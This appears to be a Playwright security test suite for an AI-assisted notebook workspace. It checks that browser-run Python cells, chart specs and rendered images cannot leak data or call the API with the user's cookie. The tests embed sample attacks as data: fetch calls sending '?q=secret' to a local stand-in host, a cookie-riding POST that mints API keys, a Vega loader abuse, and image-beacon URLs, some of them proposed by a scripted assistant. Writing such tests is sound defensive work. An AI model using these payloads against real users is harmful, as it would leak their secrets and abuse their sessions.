import http from "node:http";
import type { AddressInfo } from "node:net";
import { expect, type Page, test } from "@playwright/test";
import { openWorkspace, proposes, scripted, send, signInWithEmail } from "./workspace.ts";

test.setTimeout(120_000);

/**
 * A host on another origin that records every request reaching it: where a leak would land. (No
 * `page.route` in this file: Playwright turns the HTTP cache off for routed pages.)
 */
let listener: http.Server;
let elsewhere = "";
let leaked: string[] = [];
test.beforeAll(async () => {
  listener = http.createServer((request, response) => {
    leaked.push(request.url ?? "");
    response.writeHead(200, { "access-control-allow-origin": "*" }).end("ok");
  });
  await new Promise<void>((resolve) => listener.listen(0, "127.0.0.1", resolve));
  elsewhere = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
});
test.afterAll(() => new Promise<void>((resolve) => listener.close(() => resolve())));
test.beforeEach(() => {
  leaked = [];
});

/** What the page itself reports blocked by its policy (a worker's violations stay in the worker). */
async function watchViolations(page: Page) {
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.assign(window, { cspViolations: seen });
    document.addEventListener("securitypolicyviolation", (event) =>
      seen.push(`${event.effectiveDirective} ${event.blockedURI}`),
    );
  });
  return () => page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations);
}

const keyCount = async (page: Page) =>
  ((await (await page.request.get("/api/trpc/keys.list")).json()).result.data.json as unknown[]).length;

test("a cell cannot call the API with the user's cookie, nor send data to another origin", async ({
  page,
}) => {
  await openWorkspace(page);
  const keysBefore = await keyCount(page);
  await send(
    page,
    scripted("Check", [
      proposes("print('harmless')"),
      proposes(`from js import fetch\nawait fetch("${elsewhere}/?q=secret")`, "Next one."),
      { text: "Done." },
    ]),
  );

  // The user edits the proposal into a call that would mint a key with their cookie.
  const first = page.getByTestId("cell").first();
  await first.getByRole("button", { name: "Edit" }).click();
  await first
    .locator(".cm-content")
    .fill(
      [
        "from js import fetch, Object",
        "from pyodide.ffi import to_js",
        'body = \'{"json": {"name": "from a cell"}}\'',
        'init = to_js({"method": "POST", "headers": {"content-type": "application/json"}, "body": body}, dict_converter=Object.fromEntries)',
        'response = await fetch("/api/trpc/keys.create", init)',
        "print(await response.text())",
      ].join("\n"),
    );
  await first.getByRole("button", { name: "Run edited code" }).click();
  await expect(first).toHaveAttribute("data-status", "error", { timeout: 30_000 });
  await expect(first.getByTestId("cell-output")).toContainText("Failed to fetch");

  const second = page.getByTestId("cell").nth(1);
  await second.getByRole("button", { name: "Run", exact: true }).click();
  await expect(second).toHaveAttribute("data-status", "error", { timeout: 30_000 });
  await expect(second.getByTestId("cell-output")).toContainText("Failed to fetch");

  expect(await keyCount(page)).toBe(keysBefore);
  expect(leaked).toEqual([]);
});

test("a chart's spec cannot call the API with the viewer's cookie", async ({ page }) => {
  await openWorkspace(page);
  const keysBefore = await keyCount(page);
  // vega-embed takes a loader from the spec itself; with it, vega would POST with the cookie.
  const spec = {
    usermeta: {
      embedOptions: {
        loader: {
          http: {
            method: "POST",
            headers: { "content-type": "application/json" },
            body: '{"json": {"name": "from a chart"}}',
          },
        },
      },
    },
    data: { url: "/api/trpc/keys.create", format: { type: "json", property: "result.data.json" } },
    mark: "text",
    encoding: { text: { field: "key", type: "nominal" } },
  };
  const code = `import json\ndisplay({"application/vnd.vegalite.v5+json": json.loads(${JSON.stringify(JSON.stringify(spec))})}, raw=True)`;
  await send(page, scripted("Chart it", [proposes(code), { text: "Done." }]));
  const cell = page.getByTestId("cell");
  await cell.getByRole("button", { name: "Run", exact: true }).click();
  await expect(cell).toHaveAttribute("data-status", "completed", { timeout: 30_000 });
  // Drawn once its data has loaded, or failed to: empty, and no key was minted to show in it.
  await expect(cell.getByTestId("vega-chart").locator("svg").first()).toBeVisible();
  await expect(cell).not.toContainText("sk-ada-");
  expect(await keyCount(page)).toBe(keysBefore);
});

test("an answer's image and a cell's HTML or chart load nothing from another origin", async ({ page }) => {
  const violations = await watchViolations(page);
  const requested: string[] = [];
  page.on("request", (request) => requested.push(request.url()));
  await openWorkspace(page);
  await send(
    page,
    scripted("Show it", [
      proposes(
        [
          `display({"text/html": '<img alt="pixel" src="${elsewhere}/html?q=secret">'}, raw=True)`,
          'display({"application/vnd.vegalite.v5+json": {',
          `    "data": {"url": "${elsewhere}/chart?q=secret"}, "mark": "point",`,
          "}}, raw=True)",
        ].join("\n"),
      ),
      { text: `Here it is: ![x](https://example.invalid/?q=secret) and ![y](${elsewhere}/md?q=secret)` },
    ]),
  );
  await page.getByTestId("cell").getByRole("button", { name: "Run", exact: true }).click();
  const answer = page.getByTestId("assistant-message").last();
  await expect(answer).toContainText("x (image not loaded: https://example.invalid/?q=secret)");
  await expect(answer).toContainText(`y (image not loaded: ${elsewhere}/md?q=secret)`);
  const cell = page.getByTestId("cell");
  await expect(cell).toHaveAttribute("data-status", "completed");
  // The chart is done trying (drawn, or not) before anything is counted.
  await expect(cell.getByText("Drawing the chart…")).toHaveCount(0);
  // The page's policy is what stopped the HTML's image (DOMPurify keeps an <img>).
  await expect.poll(violations).toContain(`img-src ${elsewhere}/html?q=secret`);

  expect(requested.filter((url) => url.includes("example.invalid"))).toEqual([]);
  expect(leaked).toEqual([]);
});

test("the workspace, a table and a chart work under the policy with nothing blocked", async ({ page }) => {
  const violations = await watchViolations(page);
  const response = await page.goto("/");
  expect(response?.headers()["content-security-policy"]).toMatch(/script-src 'self' 'nonce-[\w-]+'/);
  await openWorkspace(page);
  await send(
    page,
    scripted("Chart", [
      proposes(
        [
          'rows = [{"day": i, "value": i * i} for i in range(5)]',
          'display({"application/vnd.vegalite.v5+json": {"data": {"values": rows}, "mark": "bar",',
          '    "encoding": {"x": {"field": "day", "type": "ordinal"}, "y": {"field": "value", "type": "quantitative"}}}}, raw=True)',
          'display({"application/vnd.dataresource+json": {"schema": {"fields": [{"name": "day", "type": "integer"}]},',
          '    "data": [{"day": 1}]}, "text/plain": "1 row"}, raw=True)',
          "import dateutil",
          "print(dateutil.__version__)",
        ].join("\n"),
      ),
      { text: "**Drawn.**" },
    ]),
  );
  const cell = page.getByTestId("cell");
  await cell.getByRole("button", { name: "Run", exact: true }).click();
  await expect(cell).toHaveAttribute("data-status", "completed", { timeout: 30_000 });
  await expect(cell.getByTestId("vega-chart").locator("svg").first()).toBeVisible();
  await expect(cell.locator('[data-mime="application/vnd.dataresource+json"] tbody tr')).toHaveCount(1);
  await expect(page.getByTestId("assistant-message").last()).toContainText("Drawn.");
  await page.screenshot({ path: test.info().outputPath("workspace-under-csp.png"), fullPage: true });
  expect(await violations()).toEqual([]);
});

test("after sign-out nothing of the last account is readable from the browser's cache", async ({ page }) => {
  await openWorkspace(page);
  await signInWithEmail(page, `cache-${Date.now()}@example.com`);
  // A fresh page: the anonymous account's long-polls would hold the browser's six connections.
  await openWorkspace(page);
  // The transcript's shape, as the page fetched it (first chunk, catch-ups, live polls).
  const shapes: [string, Record<string, string>][] = [];
  page.on("response", (response) => {
    if (new URL(response.url()).pathname === "/api/sync/agent_messages") {
      shapes.push([response.url(), response.headers()]);
    }
  });
  await send(page, scripted("Remember this secret transcript", [{ text: "A private answer." }]));
  await expect(page.getByTestId("assistant-message").last()).toContainText("A private answer.");
  await page.reload();
  await expect(page.getByTestId("assistant-message").last()).toContainText("A private answer.");

  expect(shapes.length).toBeGreaterThan(0);
  for (const [url, headers] of shapes) expect(headers["cache-control"], url).toBe("no-store");

  const readableFromCache = (urls: string[]) =>
    page.evaluate(async (list) => {
      const readable: string[] = [];
      for (const url of list) {
        const cached = await fetch(url, { cache: "only-if-cached", mode: "same-origin" }).catch(() => null);
        if (cached?.ok) readable.push(url);
      }
      return readable;
    }, urls);
  // Synced rows never reach the cache, even while signed in.
  expect(await readableFromCache(shapes.map(([url]) => url))).toEqual([]);

  // The account's own answer from a plain query: tRPC sends no cache-control, so the browser keeps
  // it (as it kept synced rows for a week before they became no-store).
  const me = "/api/trpc/account.me";
  await page.evaluate((url) => fetch(url), me);
  expect(await readableFromCache([me])).toEqual([me]);

  const signOut = page.waitForResponse(
    (response) => new URL(response.url()).pathname === "/api/auth/sign-out",
  );
  await page.getByTestId("account-badge").click();
  await page.getByRole("button", { name: "Sign out" }).click();
  // allHeaders: Chromium reports the header it acted on only among the raw ones.
  expect((await (await signOut).allHeaders())["clear-site-data"]).toBe('"cache"');
  await expect(page.getByTestId("account-badge")).toContainText("Anonymous");
  expect(await readableFromCache([me, ...shapes.map(([url]) => url)])).toEqual([]);
});
